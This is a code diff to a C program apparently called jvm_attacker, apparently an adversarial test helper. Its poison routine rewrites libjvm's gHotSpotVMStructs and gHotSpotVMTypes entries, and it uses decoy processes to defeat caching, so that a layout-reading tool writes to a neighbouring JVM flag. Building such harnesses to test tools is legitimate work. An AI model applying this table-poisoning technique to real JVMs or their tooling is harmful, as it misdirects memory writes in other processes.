@@ -5,10 +5,12 @@
 //
 //   jvm_attacker poison LIBJVM DIR
 //     Makes the layout read from this process steer the DebugNonSafepoints
-//     write onto a neighbouring bool flag: the JVMFlag::_name offset in its
-//     gHotSpotVMStructs is moved by (i - j) entries, so a reader scanning
-//     the flag table finds "DebugNonSafepoints" j - i entries early and
-//     takes the _addr of flag j. Then 18 decoys, each mapping its own copy
+//     write onto a neighbouring flag j: sizeof(JVMFlag) in its
+//     gHotSpotVMTypes is made m times larger and the JVMFlag::_name offset
+//     in its gHotSpotVMStructs moved by (i - j) entries, so a reader
+//     scanning another JVM's flag table with that layout finds
+//     "DebugNonSafepoints" in the entry that starts at flag j and takes
+//     flag j's _addr. Then 18 decoys, each mapping its own copy
 //     of libjvm (DIR/K/libjvm.so), flush any per-file cache, and a child
 //     that inherits the poisoned copy shows itself. Prints "ready PID",
 //     then "neighbour NAME" and "child PID", and sleeps.
@@ -164,16 +166,20 @@ static int poison(const char *lib, const char *dir) {
 		fprintf(stderr, "no DebugNonSafepoints\n");
 		return 2;
 	}
-	// The nearest flag before it that is a bool, off, and named like
-	// the print or trace flags whose values JVMs report.
-	long j = -1;
-	for (long k = i - 1; k >= 0 && (i - k) * (long)size < 4096; k--) {
+	// A reader that takes sizeof(JVMFlag) and the offset of _name from
+	// the tables, and reads each entry's fields within the entry, finds
+	// "DebugNonSafepoints" in the entry d flags after the one it takes
+	// _addr from when entries are m times larger and _name d entries
+	// further: flag j = i - d, a multiple of m, writable and off.
+	long j = -1, m = 0;
+	for (long mm = 2; mm <= 16 && j < 0; mm++) {
+		long k = (i - 1) / mm * mm;
 		const char *n = *(const char **)(table + k * size + name_off);
 		char *value = *(char **)(table + k * size + addr_off);
-		if (n && value && *value == 0 && is_writable(value) &&
-		    (!strncmp(n, "Print", 5) || !strncmp(n, "Trace", 5) || !strncmp(n, "Verify", 6))) {
+		if (k > 0 && n && value && *value == 0 && is_writable(value) &&
+		    is_writable(table + (count + 1) * size * mm)) {
 			j = k;
-			break;
+			m = mm;
 		}
 	}
 	if (j < 0) {
@@ -183,6 +189,16 @@ static int poison(const char *lib, const char *dir) {
 	char *entry = field_entry("JVMFlag", "_name");
 	writable(entry + s_offset, 8);
 	*(uint64_t *)(entry + s_offset) = name_off + (uint64_t)(i - j) * size;
+	char *types = (char *)sym64("gHotSpotVMTypes");
+	uint64_t t_stride = sym64("gHotSpotVMTypeEntryArrayStride");
+	uint64_t t_name = sym64("gHotSpotVMTypeEntryTypeNameOffset");
+	uint64_t t_size = sym64("gHotSpotVMTypeEntrySizeOffset");
+	for (char *e = types; *(const char **)(e + t_name); e += t_stride) {
+		if (!strcmp(*(const char **)(e + t_name), "JVMFlag")) {
+			writable(e + t_size, 8);
+			*(uint64_t *)(e + t_size) = size * m;
+		}
+	}
 	printf("ready %d\n", getpid());
 	printf("neighbour %s\n", *(const char **)(table + j * size + name_off));
 	fflush(stdout);
